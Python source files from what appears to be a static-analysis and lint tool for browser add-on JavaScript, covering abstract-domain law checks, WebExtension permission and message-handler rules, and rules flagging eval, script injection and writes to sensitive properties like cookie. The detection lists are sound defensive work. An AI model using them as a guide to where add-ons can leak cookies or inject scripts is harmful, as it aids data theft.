        numbers.constant(2.5),
        numbers.constant(float("nan")),
    ]


def _number_eq(a: numbers.AbstractNumber, b: numbers.AbstractNumber) -> bool:
    """Semantic equality: NaN constants are one element of the domain
    even though ``==`` on the dataclass says otherwise (IEEE NaN)."""
    if a.tag != b.tag:
        return False
    if a.concrete() is None:
        return True
    concrete_b = b.concrete()
    return concrete_b is not None and numbers._same_constant(a.value, b.value)


def _value_base() -> list[values.AbstractValue]:
    return [
        values.BOTTOM,
        values.UNDEF,
        values.NULL,
        values.ANY_STRING,
        values.ANY_NUMBER,
        values.ANY_BOOL,
        values.from_constant(True),
        values.from_constant(1.0),
        values.from_constant("a"),
        values.from_constant("ab"),
        values.from_addresses(1),
        values.from_addresses(2),
    ]


def _value_elements(base: list[values.AbstractValue]) -> list[values.AbstractValue]:
    # Close once under pairwise join to get mixed-type elements
    # (string|number, object|undefined, ...) without a combinatorial
    # blowup; dedupe preserving deterministic order.
    seen: list[values.AbstractValue] = []
    for element in base + [a.join(b) for a in base for b in base]:
        if element not in seen:
            seen.append(element)
    return seen


def _stringset_elements() -> list[StringSet]:
    # Singletons only: the bounded join is a widening above the bound,
    # where the pure lattice laws are deliberately forfeited.
    return [
        StringSet.bottom(),
        StringSet.top(),
        StringSet.exact(""),
        StringSet.exact("a"),
        StringSet.exact("b"),
        StringSet.exact("ab"),
        StringSet.prefix("a"),
        StringSet.prefix("http://"),
    ]


def _keyvalue_elements():
    """The resolution lattice of :mod:`repro.preanalysis.constants`:
    every enumerated ``StringSet`` crossed with both ``surely_string``
    flags (``True`` is the more precise claim, so ``True ⊑ False``)."""
    from repro.preanalysis.constants import RESOLUTION_BOUND, KeyValue

    sets = [
        StringSet.bottom(RESOLUTION_BOUND),
        StringSet.top(RESOLUTION_BOUND),
        StringSet.exact("", RESOLUTION_BOUND),
        StringSet.exact("a", RESOLUTION_BOUND),
        StringSet.exact("b", RESOLUTION_BOUND),
        StringSet.exact("ab", RESOLUTION_BOUND),
        StringSet.prefix("a", RESOLUTION_BOUND),
        StringSet.prefix("http://", RESOLUTION_BOUND),
    ]
    return [
        KeyValue(tostr=tostr, surely_string=surely)
        for tostr in sets
        for surely in (True, False)
    ]


def _state_elements() -> list[State]:
    """Small, corner-heavy machine states — several built as COW aliases
    of one another (``copy()`` + mutation), so join/leq run against
    states that literally share persistent-map nodes."""
    x = Var("x", GLOBAL_SCOPE)
    y = Var("y", GLOBAL_SCOPE)
    one = values.from_constant(1.0)
    two = values.from_constant(2.0)

    bottom = State()
    x_one = State()
    x_one.write_var(x, one)
    x_two = State()
    x_two.write_var(x, two)
    x_num = State()
    x_num.write_var(x, values.ANY_NUMBER)

    # COW aliases: grown from x_one's trie, sharing its nodes.
    xy = x_one.copy()
    xy.write_var(y, values.from_constant("a"))
    xy_wide = xy.copy()
    xy_wide.write_var(y, values.ANY_STRING)

    heap_single = State()
    heap_single.heap.allocate(1, AbstractObject())
    heap_summary = heap_single.copy()
    heap_summary.heap.allocate(1, AbstractObject())  # loses singleton-ness
    heap_grown = heap_single.copy()
    heap_grown.heap.allocate(2, AbstractObject())
    heap_grown.write_var(x, one)

    return [
        bottom, x_one, x_two, x_num, xy, xy_wide,
        heap_single, heap_summary, heap_grown,
    ]


def _state_eq(a: State, b: State) -> bool:
    """Semantic state equality: an absent variable entry means "never
    assigned", i.e. an implicit bottom — so explicit-bottom bindings
    (joins can produce them) compare equal to absence, and trie shape
    never matters."""
    def normal(state: State):
        return (
            {
                key: value
                for key, value in state.vars.items()
                if not value.is_bottom
            },
            state.heap.objects,
            state.heap.singletons,
        )

    return normal(a) == normal(b)


def _state_copy_strong_write(state: State) -> State:
    out = state.copy()
    out.write_var(Var("x", GLOBAL_SCOPE), values.ANY_NUMBER, strong=True)
    return out


def _state_copy_weak_write(state: State) -> State:
    # Weak-writes a variable no enumerated element binds: the lattice
    # order reads an absent binding as bottom while the machine reads it
    # as ``undefined``, so a weak write is only monotone across states
    # that agree on whether the variable was ever assigned — which is
    # the only situation the interpreter compares (same program point,
    # same hoisted declarations).
    out = state.copy()
    out.write_var(Var("z", GLOBAL_SCOPE), values.ANY_NUMBER, strong=False)
    return out


def _state_copy_alloc(state: State) -> State:
    out = state.copy()
    out.heap.allocate(9, AbstractObject())
    return out


def _implies(a: bool, b: bool) -> bool:
    return (not a) or b


# ----------------------------------------------------------------------
# Entry points


def run_selfcheck() -> list[DomainCheck]:
    """Check every registered abstract domain; returns one verdict per
    domain (violations listed, never raised)."""
    checks = [
        _LawChecker(
            "prefix",
            _prefix_elements(),
            leq=prefix_domain.Prefix.leq,
            join=prefix_domain.Prefix.join,
            meet=prefix_domain.Prefix.meet,
            bottom=prefix_domain.BOTTOM,
            top=prefix_domain.TOP,
            transfers=[
                Transfer("concat", prefix_domain.Prefix.concat, arity=2),
            ],
        ),
        _LawChecker(
            "bools",
            _bool_elements(),
            leq=bools.AbstractBool.leq,
            join=bools.AbstractBool.join,
            meet=bools.AbstractBool.meet,
            bottom=bools.BOTTOM,
            top=bools.TOP,
            transfers=[Transfer("negate", bools.AbstractBool.negate)],
        ),
        _LawChecker(
            "numbers",
            _number_elements(),
            leq=numbers.AbstractNumber.leq,
            join=numbers.AbstractNumber.join,
            meet=numbers.AbstractNumber.meet,
            eq=_number_eq,
            bottom=numbers.BOTTOM,
            top=numbers.TOP,
            transfers=[
                Transfer(
                    "add",
                    lambda a, b: numbers.binary_op("+", a, b),
                    arity=2,
                    out_leq=lambda a, b: numbers.AbstractNumber.leq(a, b)
                    or _number_eq(a, b),
                ),
                Transfer(
                    "mul",
                    lambda a, b: numbers.binary_op("*", a, b),
                    arity=2,
                    out_leq=lambda a, b: numbers.AbstractNumber.leq(a, b)
                    or _number_eq(a, b),
                ),
            ],
        ),
        _LawChecker(
            "values",
            _value_elements(value_base := _value_base()),
            probes=value_base,
            leq=values.AbstractValue.leq,
            join=values.AbstractValue.join,
            # The reduced product defines no meet; join/order suffice
            # for the interpreter.
            bottom=values.BOTTOM,
            transfers=[
                Transfer(
                    "to_property_name",
                    values.AbstractValue.to_property_name,
                    out_leq=prefix_domain.Prefix.leq,
                ),
                Transfer(
                    "without_addresses", values.AbstractValue.without_addresses
                ),
                Transfer(
                    "restricted_to_objects",
                    values.AbstractValue.restricted_to_objects,
                ),
                Transfer(
                    "may_be_truthy",
                    values.AbstractValue.may_be_truthy,
                    out_leq=_implies,
                ),
                Transfer(
                    "may_be_falsy",
                    values.AbstractValue.may_be_falsy,
                    out_leq=_implies,
                ),
            ],
        ),
        _LawChecker(
            "state",
            _state_elements(),
            leq=State.leq,
            join=State.join,
            eq=_state_eq,
            # The empty state is bottom; there is no finite top (the
            # address space is unbounded) and no meet.
            bottom=State(),
            transfers=[
                Transfer("copy", State.copy),
                Transfer("copy+strong-write", _state_copy_strong_write),
                Transfer("copy+weak-write", _state_copy_weak_write),
                Transfer("copy+alloc", _state_copy_alloc),
            ],
        ),
        _LawChecker(
            "stringset",
            _stringset_elements(),
            leq=StringSet.leq,
            join=StringSet.join,
            meet=StringSet.meet,
            bottom=StringSet.bottom(),
            top=StringSet.top(),
            transfers=[
                Transfer("concat", StringSet.concat, arity=2),
                Transfer(
                    "collapse",
                    StringSet.collapse,
                    out_leq=prefix_domain.Prefix.leq,
                ),
            ],
        ),
    ]
    from repro.preanalysis.constants import (
        KEY_BOTTOM,
        KEY_TOP,
        KeyValue,
        key_plus,
    )

    checks.append(
        _LawChecker(
            "keyvalue",
            _keyvalue_elements(),
            leq=KeyValue.leq,
            join=KeyValue.join,
            meet=KeyValue.meet,
            bottom=KEY_BOTTOM,
            top=KEY_TOP,
            transfers=[
                # The resolver treats `+` as concatenation when either
                # side is surely a string: the fixpoint's soundness
                # needs that evaluation monotone in both operands.
                Transfer("key_plus", key_plus, arity=2),
            ],
        )
    )
    return [checker.run() for checker in checks]


def render_selfcheck(results: list[DomainCheck]) -> str:
    lines = [result.render() for result in results]
    total_checks = sum(result.checks for result in results)
    bad = [result.domain for result in results if not result.ok]
    if bad:
        lines.append(
            f"FAILED: lattice-law violations in {', '.join(bad)} "
            f"({total_checks} checks total)"
        )
    else:
        lines.append(
            f"all {len(results)} domains satisfy their lattice laws "
            f"({total_checks} checks)"
        )
    return "\n".join(lines)
