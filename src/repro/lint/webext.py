"""WebExtension-specific lint rules (manifest + cross-file surface).

These rules need the *whole bundle* — the manifest and every component
file at once — so they live outside the per-file rule registry of
:mod:`repro.lint.engine` and run from :func:`lint_extension` (wired into
``lint_paths`` for directories containing a ``manifest.json``):

- **WEB001** ``manifest-over-permission`` — a permission is declared but
  no component file ever utters the corresponding ``chrome.*``
  namespace. Over-permission is the classic store-review smell: the
  extension can escalate later (or an update can start abusing it)
  without any manifest diff. Sound in the prefilter's sense: reaching
  ``chrome.cookies`` requires uttering ``cookies`` somewhere, so a
  bundle with no dynamic property access that never says the name
  cannot use the permission.
- **WEB002** ``unguarded-message-handler`` — an ``onMessage`` /
  ``onMessageExternal`` listener whose body calls a privileged
  ``chrome.*`` API but never mentions a sender-identity property
  (``url`` / ``origin`` / ``id``). Purely syntactic (the abstract
  counterpart is the sender-guard pass of :mod:`repro.webext.guards`);
  mentioning a property is not *checking* it, so this is a triage
  heuristic, deliberately noisy in the safe direction.
- **WEB003** ``wildcard-match-pattern`` — ``<all_urls>`` or a
  ``*``-host match pattern in ``content_scripts`` (the content script
  runs everywhere, so every page becomes a message sender) or in
  ``externally_connectable`` (every website may deliver
  ``onMessageExternal`` events).
"""

from __future__ import annotations

from pathlib import Path

from repro.js import ast as js_ast
from repro.js.errors import SourcePosition, Span
from repro.js.parser import parse_with_recovery
from repro.lint.findings import Finding, Severity
from repro.lint.rules import member_root, static_property_name
from repro.lint.surface import nodes_surface
from repro.webext.loader import ExtensionBundle, bundle_from_dir

#: (id, slug, severity, description) — surfaced in ``rule_table``.
WEB_RULES: tuple[tuple[str, str, Severity, str], ...] = (
    (
        "WEB001", "manifest-over-permission", Severity.WARNING,
        "a declared permission's chrome.* namespace is never used by any "
        "component file",
    ),
    (
        "WEB002", "unguarded-message-handler", Severity.WARNING,
        "an onMessage handler calls a privileged chrome.* API without "
        "mentioning sender.url/origin/id",
    ),
    (
        "WEB003", "wildcard-match-pattern", Severity.WARNING,
        "<all_urls> or a *-host pattern in content_scripts or "
        "externally_connectable",
    ),
)

#: Permissions whose use requires uttering the same-named chrome.*
#: namespace. Permissions outside this table (host permissions,
#: capability flags like ``activeTab``) have no nameable API surface
#: and are never reported.
_NAMESPACE_PERMISSIONS = frozenset({
    "alarms", "bookmarks", "browsingData", "contextMenus", "cookies",
    "downloads", "history", "identity", "idle", "management",
    "notifications", "pageCapture", "privacy", "proxy", "scripting",
    "sessions", "storage", "tabs", "topSites", "webNavigation",
    "webRequest",
})

#: chrome.* namespaces whose calls inside a message handler count as
#: privileged for WEB002.
_PRIVILEGED_NAMESPACES = frozenset({
    "cookies", "tabs", "storage", "scripting", "history", "downloads",
    "management", "browsingData", "webRequest",
})

_SENDER_PROPS = frozenset({"url", "origin", "id"})

_MESSAGE_EVENTS = frozenset({"onMessage", "onMessageExternal"})

_ORIGIN = Span.at(SourcePosition(0, 0))


def lint_extension(
    bundle: ExtensionBundle, manifest_file: str = "manifest.json"
) -> list[Finding]:
    """Run the WEB rules over one bundle; findings in stable order."""
    findings: list[Finding] = []
    parsed: list[tuple[str, js_ast.Program]] = []
    for component in bundle.components():
        for path, source in component.files:
            program, _skipped = parse_with_recovery(source, filename=path)
            parsed.append((path, program))

    findings.extend(_check_permissions(bundle, parsed, manifest_file))
    for path, program in parsed:
        findings.extend(_check_handlers(path, program))
    findings.extend(_check_patterns(bundle, manifest_file))
    return sorted(findings, key=Finding.sort_key)


def lint_extension_dir(path: str | Path) -> list[Finding]:
    """Convenience wrapper: lint the extension rooted at ``path``."""
    root = Path(path)
    return lint_extension(
        bundle_from_dir(root), manifest_file=str(root / "manifest.json")
    )


# ----------------------------------------------------------------------
# WEB001


def _check_permissions(bundle, parsed, manifest_file) -> list[Finding]:
    surface = nodes_surface(program for _path, program in parsed)
    if surface.dynamic_code or surface.dynamic_properties:
        # A computed access / eval could reach any namespace: non-use is
        # no longer provable, so stay silent (same discipline as the
        # relevance prefilter).
        return []
    findings = []
    for permission in bundle.manifest.permissions:
        if permission not in _NAMESPACE_PERMISSIONS:
            continue
        if permission in surface.names:
            continue
        findings.append(Finding(
            rule="WEB001", name="manifest-over-permission",
            severity=Severity.WARNING,
            message=(
                f"permission {permission!r} is declared but chrome."
                f"{permission} is never used by any component file"
            ),
            span=_ORIGIN, file=manifest_file,
        ))
    return findings


# ----------------------------------------------------------------------
# WEB002


def _check_handlers(path: str, program: js_ast.Program) -> list[Finding]:
    findings = []
    for node in program.walk():
        if not isinstance(node, js_ast.CallExpression):
            continue
        event = _message_listener_event(node)
        if event is None or not node.arguments:
            continue
        handler = node.arguments[0]
        if not isinstance(handler, js_ast.FunctionExpression):
            continue
        privileged = _privileged_calls(handler)
        if not privileged:
            continue
        if _mentions_sender_identity(handler):
            continue
        names = ", ".join(sorted(privileged))
        findings.append(Finding(
            rule="WEB002", name="unguarded-message-handler",
            severity=Severity.WARNING,
            message=(
                f"{event} handler calls privileged API(s) ({names}) "
                "without mentioning sender.url/origin/id"
            ),
            span=Span.at(node.position), file=path,
        ))
    return findings


def _message_listener_event(call: js_ast.CallExpression) -> str | None:
    """``chrome.runtime.onMessage.addListener(...)`` (and the
    ``browser.``/``onMessageExternal`` variants) -> the event name."""
    callee = call.callee
    if not isinstance(callee, js_ast.MemberExpression):
        return None
    if static_property_name(callee) != "addListener":
        return None
    event_object = callee.object
    if not isinstance(event_object, js_ast.MemberExpression):
        return None
    event = static_property_name(event_object)
    if event in _MESSAGE_EVENTS:
        return event
    return None


def _privileged_calls(handler: js_ast.FunctionExpression) -> set[str]:
    """Privileged ``chrome.<namespace>.<method>`` namespaces called
    anywhere inside the handler body."""
    privileged: set[str] = set()
    for node in handler.walk():
        if not isinstance(node, js_ast.CallExpression):
            continue
        callee = node.callee
        # Walk member chains collecting static names; the chain must be
        # rooted at chrome/browser and pass through a privileged
        # namespace (chrome.cookies.getAll, browser.tabs.query.bind...).
        chain: list[str] = []
        current = callee
        while isinstance(current, js_ast.MemberExpression):
            name = static_property_name(current)
            if name is not None:
                chain.append(name)
            current = current.object
        if member_root(callee) in ("chrome", "browser"):
            privileged.update(set(chain) & _PRIVILEGED_NAMESPACES)
    return privileged


def _mentions_sender_identity(handler: js_ast.FunctionExpression) -> bool:
    for node in handler.walk():
        if isinstance(node, js_ast.MemberExpression):
            if static_property_name(node) in _SENDER_PROPS:
                return True
    return False


# ----------------------------------------------------------------------
# WEB003


def _is_wildcard_pattern(pattern: str) -> bool:
    if pattern == "<all_urls>":
        return True
    scheme, separator, rest = pattern.partition("://")
    if not separator:
        return False
    host = rest.split("/", 1)[0]
    return host == "*"


def _check_patterns(bundle, manifest_file) -> list[Finding]:
    findings = []
    manifest = bundle.manifest
    for index, script in enumerate(manifest.content_scripts):
        for pattern in script.matches:
            if _is_wildcard_pattern(pattern):
                findings.append(Finding(
                    rule="WEB003", name="wildcard-match-pattern",
                    severity=Severity.WARNING,
                    message=(
                        f"content_scripts[{index}] matches {pattern!r}: the "
                        "script runs on every site, so any page can become "
                        "a message sender"
                    ),
                    span=_ORIGIN, file=manifest_file,
                ))
    for pattern in manifest.externally_connectable:
        if _is_wildcard_pattern(pattern):
            findings.append(Finding(
                rule="WEB003", name="wildcard-match-pattern",
                severity=Severity.WARNING,
                message=(
                    f"externally_connectable matches {pattern!r}: any "
                    "website may deliver onMessageExternal events"
                ),
                span=_ORIGIN, file=manifest_file,
            ))
    return findings
