"""Structured lint findings: the rule engine's output vocabulary.

A :class:`Finding` is one diagnostic anchored to a source span — the
same :class:`repro.js.errors.Span` format recovery-mode parsing records
for skipped statements, so triage tooling sees one span grammar
everywhere. A :class:`LintReport` is the per-run collection, renderable
as human text or as stable JSON (the ``LINT_findings.json`` CI
artifact).
"""

from __future__ import annotations

import enum
import json
from dataclasses import dataclass, field

from repro.js.errors import Span


class Severity(enum.Enum):
    """How alarming a finding is. The values are stable wire strings."""

    ERROR = "error"
    WARNING = "warning"
    INFO = "info"

    def __str__(self) -> str:
        return self.value


#: Rendering/sort order: most severe first.
_SEVERITY_RANK = {Severity.ERROR: 0, Severity.WARNING: 1, Severity.INFO: 2}


@dataclass(frozen=True)
class Finding:
    """One lint diagnostic, anchored to a source span."""

    #: Stable rule id, e.g. ``"JS001"`` (``"R001"`` for frontend skips).
    rule: str
    #: Human-memorable rule slug, e.g. ``"eval-call"``.
    name: str
    severity: Severity
    message: str
    span: Span
    file: str = "<addon>"

    def render(self) -> str:
        return (
            f"{self.file}:{self.span}: {self.severity}"
            f" [{self.rule}/{self.name}] {self.message}"
        )

    def sort_key(self) -> tuple:
        return (
            self.file,
            self.span.start.line,
            self.span.start.column,
            self.rule,
            self.message,
        )

    def to_json(self) -> dict:
        return {
            "rule": self.rule,
            "name": self.name,
            "severity": self.severity.value,
            "message": self.message,
            "span": self.span.to_json(),
            "file": self.file,
        }


#: Schema tag stamped on the JSON report (bump on shape changes).
#: v2: per-file ``surfaces`` section (dynamic-code / dynamic-property
#: site spans and resolved-site counts from the pre-analysis).
SCHEMA = "addon-sig/lint/v2"


@dataclass
class LintReport:
    """All findings of one lint run, in a stable order."""

    findings: list[Finding] = field(default_factory=list)
    #: The files linted (relative paths as given), in lint order.
    files: list[str] = field(default_factory=list)
    #: file -> syntactic-surface summary (dynamic sites with spans,
    #: resolved-site counts); absent for files that failed to tokenize.
    surfaces: dict[str, dict] = field(default_factory=dict)

    def sorted_findings(self) -> list[Finding]:
        return sorted(self.findings, key=Finding.sort_key)

    def count(self, severity: Severity) -> int:
        return sum(1 for f in self.findings if f.severity is severity)

    @property
    def has_errors(self) -> bool:
        return any(f.severity is Severity.ERROR for f in self.findings)

    def summary(self) -> dict[str, int]:
        return {
            severity.value: self.count(severity)
            for severity in sorted(Severity, key=_SEVERITY_RANK.get)
        }

    def render(self) -> str:
        lines = [finding.render() for finding in self.sorted_findings()]
        counts = ", ".join(
            f"{count} {name}" for name, count in self.summary().items()
        )
        lines.append(
            f"{len(self.findings)} finding(s) in {len(self.files)} file(s)"
            f" ({counts})"
        )
        return "\n".join(lines)

    def to_json(self) -> dict:
        return {
            "schema": SCHEMA,
            "files": list(self.files),
            "summary": self.summary(),
            "findings": [f.to_json() for f in self.sorted_findings()],
            "surfaces": {
                name: dict(surface)
                for name, surface in sorted(self.surfaces.items())
            },
        }

    def render_json(self) -> str:
        return json.dumps(self.to_json(), indent=2, ensure_ascii=False)
