"""The built-in lint rules over addon JavaScript.

Each rule targets a pattern that either defeats the abstract
interpreter outright (dynamic code, ``with`` scoping), widens its
results (dynamic property access, prefix-domain-hostile string
construction), or marks security-relevant behavior a vetter should eye
before trusting any signature (sensitive browser-API writes, script
injection). The ids are stable wire strings; severities express how
much the finding undermines the analysis, not how malicious the addon
is.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence

from repro.domains.lattice import greatest_common_prefix
from repro.js import ast as js_ast
from repro.js.errors import Span
from repro.js.tokens import Token
from repro.lint.engine import LintContext, Rule, register
from repro.lint.findings import Severity

#: Browser globals whose object graph the security spec cares about —
#: dynamic property access rooted here can reach any source or sink.
BROWSER_ROOTS = frozenset(
    {"window", "document", "content", "gBrowser", "navigator", "Services"}
)

#: Property writes that change what the browser loads or leaks.
SENSITIVE_WRITE_PROPS = frozenset(
    {
        "href", "location", "src", "innerHTML", "outerHTML", "cookie",
        "domain", "onclick", "onload", "onmessage", "onerror",
    }
)

#: Timer APIs whose first argument may be a string of code.
TIMER_NAMES = frozenset({"setTimeout", "setInterval"})


def static_property_name(member: js_ast.MemberExpression) -> str | None:
    """The statically known property name of a member access, if any.

    Non-computed access always has one (the parser normalizes ``a.b`` to
    a string-literal property); computed access has one only for string
    or integral-number literal keys.
    """
    prop = member.property
    if isinstance(prop, js_ast.StringLiteral):
        return prop.value
    if isinstance(prop, js_ast.NumberLiteral) and prop.value == int(prop.value):
        return str(int(prop.value))
    return None


def callee_name(callee: js_ast.Expression) -> str | None:
    """The identifier or static property name a call goes through."""
    if isinstance(callee, js_ast.Identifier):
        return callee.name
    if isinstance(callee, js_ast.MemberExpression):
        return static_property_name(callee)
    return None


def member_root(expression: js_ast.Expression) -> str | None:
    """The identifier at the root of a member chain (``a.b[c].d`` →
    ``a``), or None when the chain is rooted in a call/literal."""
    node = expression
    while isinstance(node, js_ast.MemberExpression):
        node = node.object
    if isinstance(node, js_ast.Identifier):
        return node.name
    return None


def _urlish(text: str) -> bool:
    """Does a string literal look like (part of) a URL?"""
    return "://" in text or text.startswith(("http", "/", "www."))


# ----------------------------------------------------------------------
# Dangerous dynamic code


@register
class EvalCall(Rule):
    id = "JS001"
    name = "eval-call"
    severity = Severity.ERROR
    description = (
        "call to eval(): string-to-code execution the static analysis "
        "cannot see through"
    )
    node_types = (js_ast.CallExpression,)

    def check(
        self, node: js_ast.Node, context: LintContext
    ) -> Iterator[tuple[str, Span]]:
        assert isinstance(node, js_ast.CallExpression)
        if callee_name(node.callee) == "eval":
            yield (
                "eval() executes a dynamically built string as code; no "
                "static signature can cover what it does",
                context.span_of(node),
            )


@register
class FunctionConstructor(Rule):
    id = "JS002"
    name = "function-constructor"
    severity = Severity.ERROR
    description = (
        "Function(...) constructor: compiles its string arguments into "
        "code at runtime"
    )
    node_types = (js_ast.CallExpression, js_ast.NewExpression)

    def check(
        self, node: js_ast.Node, context: LintContext
    ) -> Iterator[tuple[str, Span]]:
        assert isinstance(node, (js_ast.CallExpression, js_ast.NewExpression))
        if (
            isinstance(node.callee, js_ast.Identifier)
            and node.callee.name == "Function"
        ):
            yield (
                "the Function constructor compiles string arguments into "
                "code at runtime",
                context.span_of(node),
            )


@register
class StringCodeTimer(Rule):
    id = "JS003"
    name = "string-code-timer"
    severity = Severity.ERROR
    description = (
        "setTimeout/setInterval with a string argument: implicit eval "
        "on every tick"
    )
    node_types = (js_ast.CallExpression,)

    def check(
        self, node: js_ast.Node, context: LintContext
    ) -> Iterator[tuple[str, Span]]:
        assert isinstance(node, js_ast.CallExpression)
        if callee_name(node.callee) not in TIMER_NAMES or not node.arguments:
            return
        handler = node.arguments[0]
        stringy = isinstance(handler, js_ast.StringLiteral) or (
            isinstance(handler, js_ast.BinaryExpression)
            and handler.operator == "+"
            and (
                isinstance(handler.left, js_ast.StringLiteral)
                or isinstance(handler.right, js_ast.StringLiteral)
            )
        )
        if stringy:
            yield (
                "timer handler is a string, which the browser evals on "
                "every tick; pass a function instead",
                context.span_of(handler),
            )


@register
class WithStatement(Rule):
    id = "JS004"
    name = "with-statement"
    severity = Severity.ERROR
    description = (
        "with-statement: makes every identifier's scope dynamic "
        "(outside the analyzable subset)"
    )

    def check_tokens(
        self, tokens: Sequence[Token], context: LintContext
    ) -> Iterator[tuple[str, Span]]:
        # Token-level: `with` never survives parsing (the statement is
        # skipped by recovery), but the lint must still point at it.
        for token in tokens:
            if token.is_keyword("with"):
                yield (
                    "with makes every identifier lookup dynamic; the "
                    "analysis rejects it",
                    Span.at(token.position),
                )


# ----------------------------------------------------------------------
# Sensitive browser-API surface


@register
class SensitivePropertyWrite(Rule):
    id = "JS005"
    name = "sensitive-prop-write"
    severity = Severity.WARNING
    description = (
        "write to a security-sensitive browser property (href, "
        "innerHTML, cookie, event handlers, ...)"
    )
    node_types = (js_ast.AssignmentExpression,)

    def check(
        self, node: js_ast.Node, context: LintContext
    ) -> Iterator[tuple[str, Span]]:
        assert isinstance(node, js_ast.AssignmentExpression)
        target = node.target
        if not isinstance(target, js_ast.MemberExpression):
            return
        prop = static_property_name(target)
        if prop in SENSITIVE_WRITE_PROPS:
            yield (
                f"assignment to sensitive property '{prop}' can redirect, "
                "inject markup, or leak data without any network call",
                context.span_of(node),
            )


@register
class DynamicPropertyAccess(Rule):
    id = "JS006"
    name = "dynamic-property-access"
    severity = Severity.WARNING
    description = (
        "computed property access with a non-literal key on a browser "
        "API object: reaches arbitrary sources/sinks"
    )
    node_types = (js_ast.MemberExpression,)

    def check(
        self, node: js_ast.Node, context: LintContext
    ) -> Iterator[tuple[str, Span]]:
        assert isinstance(node, js_ast.MemberExpression)
        if not node.computed or static_property_name(node) is not None:
            return
        root = member_root(node.object)
        if root in BROWSER_ROOTS:
            yield (
                f"dynamic property access on '{root}' can reach any "
                "browser API; the relevance prefilter must assume all "
                "of them",
                context.span_of(node),
            )


@register
class PrefixHostileUrl(Rule):
    id = "JS007"
    name = "prefix-hostile-url"
    severity = Severity.INFO
    description = (
        "URL built in a way the prefix string domain cannot track "
        "(unknown head, or branches with no common prefix)"
    )
    node_types = (
        js_ast.BinaryExpression,
        js_ast.ConditionalExpression,
        js_ast.LogicalExpression,
    )

    def check(
        self, node: js_ast.Node, context: LintContext
    ) -> Iterator[tuple[str, Span]]:
        if isinstance(node, js_ast.BinaryExpression):
            if (
                node.operator == "+"
                and not isinstance(node.left, js_ast.StringLiteral)
                and isinstance(node.right, js_ast.StringLiteral)
                and _urlish(node.right.value)
            ):
                yield (
                    "URL fragment follows a non-constant head: the prefix "
                    "domain keeps only the unknown head and loses "
                    f"'{node.right.value}'",
                    context.span_of(node),
                )
            return
        if isinstance(node, js_ast.ConditionalExpression):
            left, right = node.consequent, node.alternate
        else:
            assert isinstance(node, js_ast.LogicalExpression)
            left, right = node.left, node.right
        if not (
            isinstance(left, js_ast.StringLiteral)
            and isinstance(right, js_ast.StringLiteral)
        ):
            return
        if not (_urlish(left.value) or _urlish(right.value)):
            return
        common = greatest_common_prefix(left.value, right.value)
        if common not in (left.value, right.value):
            yield (
                "branches choose between URLs whose common prefix is "
                f"only '{common}': the prefix domain joins them to that "
                "and loses both hosts",
                context.span_of(node),
            )


@register
class ScriptInjection(Rule):
    id = "JS008"
    name = "script-injection"
    severity = Severity.WARNING
    description = (
        "script injection surface: loadSubScript, document.write, or "
        "createElement('script')"
    )
    node_types = (js_ast.CallExpression,)

    def check(
        self, node: js_ast.Node, context: LintContext
    ) -> Iterator[tuple[str, Span]]:
        assert isinstance(node, js_ast.CallExpression)
        name = callee_name(node.callee)
        if name == "loadSubScript":
            yield (
                "loadSubScript pulls in and runs another script; its "
                "behavior is invisible to this addon's signature",
                context.span_of(node),
            )
        elif (
            name == "write"
            and isinstance(node.callee, js_ast.MemberExpression)
            and member_root(node.callee.object) == "document"
        ):
            yield (
                "document.write splices markup (and scripts) directly "
                "into the page",
                context.span_of(node),
            )
        elif (
            name == "createElement"
            and node.arguments
            and isinstance(node.arguments[0], js_ast.StringLiteral)
            and node.arguments[0].value.lower() == "script"
        ):
            yield (
                "createElement('script') builds a script element; "
                "whatever src it is given will run with addon privileges",
                context.span_of(node),
            )


# ----------------------------------------------------------------------
# Call-graph rules (whole-program: one check per file's Program node)

#: Constructors and callables real addons invoke that the modeled
#: browser environment does not install as globals. Calling one is fine
#: at runtime, so CG002 must not fire on them (``Function`` is still
#: flagged — by JS002, as dynamic code, which is the right complaint).
_CALLABLE_BUILTINS = frozenset(
    {
        "Array", "Boolean", "Date", "Error", "Function", "Number",
        "Object", "Promise", "RangeError", "RegExp", "String",
        "TypeError",
    }
)


@register
class UnreachableFunction(Rule):
    id = "CG001"
    name = "unreachable-function"
    severity = Severity.WARNING
    description = (
        "function declaration never referenced from top-level code or "
        "any reachable handler: nothing can ever invoke it"
    )
    node_types = (js_ast.Program,)

    def check(
        self, node: js_ast.Node, context: LintContext
    ) -> Iterator[tuple[str, Span]]:
        assert isinstance(node, js_ast.Program)
        # Imported lazily: repro.preanalysis.callgraph imports helpers
        # from this module at import time.
        from repro.preanalysis.callgraph import build_callgraph

        graph = build_callgraph([node])
        for info in graph.unreachable_declarations():
            if info.kind != "declaration":
                continue
            yield (
                f"function '{info.name}' is referenced by no top-level "
                "statement and no reachable function; no execution can "
                "invoke it",
                info.span,
            )


@register
class UnboundCallee(Rule):
    id = "CG002"
    name = "unbound-callee"
    severity = Severity.WARNING
    description = (
        "call to a name the program never binds and the browser "
        "environment does not provide: its callee set is empty"
    )
    node_types = (js_ast.Program,)

    def check(
        self, node: js_ast.Node, context: LintContext
    ) -> Iterator[tuple[str, Span]]:
        assert isinstance(node, js_ast.Program)
        from repro.preanalysis import environment_global_names
        from repro.preanalysis.callgraph import build_callgraph

        graph = build_callgraph([node])
        known = (
            graph.program_bindings
            | environment_global_names()
            | _CALLABLE_BUILTINS
        )
        for call in node.walk():
            if not isinstance(
                call, (js_ast.CallExpression, js_ast.NewExpression)
            ):
                continue
            if not isinstance(call.callee, js_ast.Identifier):
                continue  # property calls resolve through objects
            name = call.callee.name
            if name in known:
                continue
            yield (
                f"'{name}' is bound by neither the program nor the "
                "browser environment; the abstract machine can only "
                "call undefined here",
                context.span_of(call),
            )
