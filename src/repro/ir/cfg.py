"""Control-flow graph views over the IR.

The IR stores, on every statement, edges of four kinds (see
:class:`repro.ir.nodes.EdgeKind`). The CDG construction of Section 3.3
needs three progressively less pruned CFGs; this module provides them as
*views* (:class:`Mode`) over the one set of stored edges:

``STRUCTURED``
    Only structured control flow. Explicit jumps are replaced by their
    FALLTHROUGH successor ("as if the jump were not taken"), and implicit
    exception edges are dropped. This is the stage-1 CFG, from which
    ``local`` control dependencies are computed.
``NO_IMPLICIT``
    Structured flow plus explicit jumps (break/continue/return/throw);
    implicit exception edges are still dropped. Stage-2 CFG
    (``nonlocexp``).
``FULL``
    Everything, including implicit exception edges — but only those the
    base analysis confirmed can actually throw (the ``throwing`` set).
    Stage-3 CFG (``nonlocimp``), and the CFG used for DDG reachability.

Uncaught exceptions have no edges at all (the paper omits them:
